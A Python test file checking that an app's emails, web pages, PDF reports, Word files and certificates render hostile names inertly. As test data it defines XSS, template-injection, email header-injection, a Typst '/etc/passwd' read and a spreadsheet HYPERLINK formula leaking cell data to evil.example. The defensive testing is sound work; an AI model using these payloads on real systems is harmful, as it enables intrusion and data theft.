"""Names that are code: HTML, templates, formulas, Typst and headers, on every page, letter and document (issue 7)."""

import email
import io
import re
from collections.abc import Iterator
from dataclasses import replace
from email.policy import default
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import docx
import pytest
from pypdf import PdfReader
from sqlalchemy import update

from bot.messages import mail, mime
from bot.reports import certificate, paper, word
from bot.reports.document import Bullets, Grid, Note, Paragraph, Quotes
from bot.storage.tables import Event, Person
from tests.fakes.letters import LETTERS, NOW, a_context, a_message
from tests.handlers.web_world import World
from tests.reports.papers import report
from tests.reports.test_certificate import facts

HTML = "<img src=x onerror=alert(1)>\"'><script>alert(1)</script>"
TEMPLATE = "{{ 1234 * 4321 }}{% raw %}{{ config }}{#x#}"
EVALUATED = str(1234 * 4321)
HOSTILE = f"{HTML} {TEMPLATE}"
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"x")'
TYPST = '#read("/etc/passwd") "); #panic("x") //'

HEADERS = {"from", "to", "reply-to", "subject", "date", "message-id", "mime-version", "content-type", "thread-topic"}
HEADERS |= {"auto-submitted", "list-unsubscribe", "list-unsubscribe-post", "x-auto-response-suppress", "list-id"}
HEADERS |= {"importance", "priority"}
HEADERS |= {"in-reply-to", "references", "precedence"}


class Page(HTMLParser):
    """Finds whatever would run, and all the words."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.runs: list[str] = []
        self.words = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "svg") or (tag == "img" and ("src", "x") in attrs):
            self.runs.append(tag)
        self.runs += [name for name, _ in attrs if name.startswith("on")]
        self.runs += [value for _, value in attrs if value and re.match(r"\s*(javascript|vbscript):", value, re.I)]
        self.words += " ".join(value or "" for _, value in attrs)

    def handle_data(self, data: str) -> None:
        self.words += data


def hostile(part: Any) -> Any:
    """Make every text of a letter's context hostile, but for what is an address, a key or a number."""
    if isinstance(part, dict):
        plain = ("key", "links", "email", "channel", "purpose", "code", "website", "zone", "ref")
        return {name: value if name in plain or "link" in name else hostile(value) for name, value in part.items()}
    if isinstance(part, list | tuple):
        return [hostile(each) for each in part]
    spoken = isinstance(part, str) and " " in part and not re.match(r"[\d:. -]+$|https?:|\S+@", part)
    return HOSTILE if spoken else part


@pytest.mark.parametrize("letter", LETTERS)
def test_no_word_of_a_letter_runs(letter: str) -> None:
    words = mail.render(a_message(letter, **hostile(a_context(letter))))
    page = Page(words.html)
    assert page.runs == []
    assert TEMPLATE in words.text and EVALUATED not in words.text + words.html
    assert len(words.subject.splitlines()) == 1


@pytest.mark.parametrize("letter", LETTERS)
def test_no_word_of_a_letter_makes_a_header(letter: str) -> None:
    broken = 'Ann\r\nBcc: all@evil.example\r\n\r\n<b>body</b>\x00\u2028\x85, Dr "A" <x@evil.example>'

    def breaks(part: Any) -> Any:
        if isinstance(part, dict):
            return {name: breaks(value) for name, value in part.items()}
        return broken if part == HOSTILE else [breaks(each) for each in part] if isinstance(part, list) else part

    message = a_message(letter, **breaks(hostile(a_context(letter))))
    message = replace(message, sender_name=broken, to=replace(message.to, name=broken))
    read = email.message_from_bytes(bytes(mime.build(message, now=NOW, sender="bot@x.example")), policy=default)
    assert {name.lower() for name in read} <= HEADERS
    assert [each.addr_spec for each in read["To"].addresses] == [message.to.email]
    assert [each.addr_spec for each in read["From"].addresses] == ["bot@x.example"]
    assert len(str(read["Subject"]).splitlines()) == 1


@pytest.fixture
def hostile_world(world: World) -> World:
    world.booking(name=HOSTILE, agency=HOSTILE)
    with world.desk.database.write() as session:
        event = session.get_one(Event, world.events["tscp"])
        event.course, event.venue, event.level = f"{HOSTILE} course", HOSTILE, HOSTILE
        event.outcomes = [{"key": "signs", "text": HOSTILE}]
        session.execute(update(Person).where(Person.email == "tess@trainers.example").values(name=HOSTILE))
    return world


def test_no_name_runs_on_any_page(hostile_world: World) -> None:
    world, seen = hostile_world, ""
    booking = world.booking(name=f"Ann {HOSTILE}", agency=HOSTILE)
    dana = world.browser()
    stages = ("pre_course", "end_of_course", "impact_check", "supervisor_briefing", "supervisor_check")
    plan = world.plans["tscp"].plan.stages
    for stage in (each for each in stages if each in plan):
        path = world.link(world.sent(booking, stage))
        pages = [dana.look(path)]
        if path.startswith("/q/"):
            pages += [dana.press(path, "start"), dana.look(path, page="review"), dana.look(path, question=HOSTILE)]
        pages.append(dana.post(path, nonce="no", move="say", question="hope", answer=HOSTILE, text=HOSTILE).text)
        for page in pages:
            found = Page(page)
            assert found.runs == [], stage
            seen += found.words
    for path in (f"/certificates/{HTML}", f"/q/{HTML}", f"/new-link?token={HTML}", f"/privacy/{HTML}"):
        page = dana.client.get(path).text
        assert Page(page).runs == [], path
    assert HTML in seen and TEMPLATE in seen and EVALUATED not in seen


def shown(text: str) -> str:
    return re.sub(r"\s", "", text)


def a_report() -> Iterator[Any]:
    for trick in (HTML, TEMPLATE, FORMULA, TYPST):
        blocks = (
            Paragraph(trick),
            Bullets((trick,)),
            Grid(trick, (trick,), ((trick,),)),
            Quotes((trick,)),
            Note(trick),
        )
        yield trick, report(*blocks, title=trick, decide=(trick,), lead=(Paragraph(trick),))


def test_no_name_runs_in_a_printed_report_or_in_word(tmp_path: Path) -> None:
    for trick, document in a_report():
        printed = shown("".join(page.extract_text() for page in PdfReader(io.BytesIO(paper.pdf(document))).pages))
        assert printed.count(shown(trick)[:12]) >= 6 and "root:" not in printed, trick
        written = docx.Document(io.BytesIO(word.docx(document)))
        assert sum(trick in line.text for line in written.paragraphs) >= 5, trick
        assert not re.search(r'w:instr(Text[^>]*>[^<]*|="[^"]*)(evil|HYPERLINK|passwd)', written.element.xml)


@pytest.mark.parametrize("trick", [HTML, TEMPLATE, TYPST])
def test_no_name_runs_on_a_certificate(trick: str) -> None:
    made = facts(name=trick, course=trick, partnership=trick, level=trick, outcomes=(trick,))
    printed = shown("".join(page.extract_text() for page in PdfReader(io.BytesIO(certificate.pdf(made))).pages))
    assert shown(trick)[:12] in printed and "root:" not in printed
